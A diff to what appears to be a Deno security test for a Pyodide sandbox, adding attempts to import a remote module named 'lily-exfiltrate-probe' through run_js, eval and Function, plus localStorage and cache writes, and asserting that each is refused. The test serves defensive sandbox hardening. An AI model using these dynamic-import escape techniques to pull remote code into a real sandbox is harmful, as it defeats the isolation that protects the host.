@@ -322,6 +322,16 @@ Deno.test("pyodide attacks: host files, writes, programs, environment and import
                 except BaseException as e:
                     print("import", url, "REFUSED", type(e).__name__, str(e).splitlines()[0][:160])
         await imports()
+        for how, load in (("run_js", lambda u: run_js("import('" + u + "')")),
+                          ("eval", lambda u: js.eval("import('" + u + "')")),
+                          ("function", lambda u: js.Function("u", "return import(u)")(u))):
+            try:
+                await load("https://deno.land/x/lily-exfiltrate-probe.ts")
+                print("remote-import", how, "GOT")
+            except BaseException as e:
+                print("remote-import", how, "REFUSED", str(e).splitlines()[0][:160])
+        attempt("storage", lambda: js.localStorage.setItem("k", "v"))
+        attempt("caches", lambda: js.caches.open("k"))
         with open("/tmp/inside-only.txt", "w") as f:
             f.write("stays in the interpreter")
         os.makedirs(outside + "/made", exist_ok=True)
@@ -350,6 +360,12 @@ Deno.test("pyodide attacks: host files, writes, programs, environment and import
     }
     assertMatch(log, /^import \/secret\.json REFUSED .*Requires read access/m);
     assertMatch(log, /^import \/secret\.js REFUSED .*Requires read access/m);
+    for (const how of ["run_js", "eval", "function"]) {
+      assertMatch(log, new RegExp(`^remote-import ${how} REFUSED `, "m"));
+    }
+    assert(!log.includes(" GOT"), log);
+    assertMatch(log, /^storage REFUSED AttributeError/m);
+    assertMatch(log, /^caches REFUSED AttributeError/m);
     for (const value of ["outside-json-value", "outside-js-value", "outside-text-value"]) {
       assert(!log.includes(value), `${value} leaked:\n${log}`);
     }
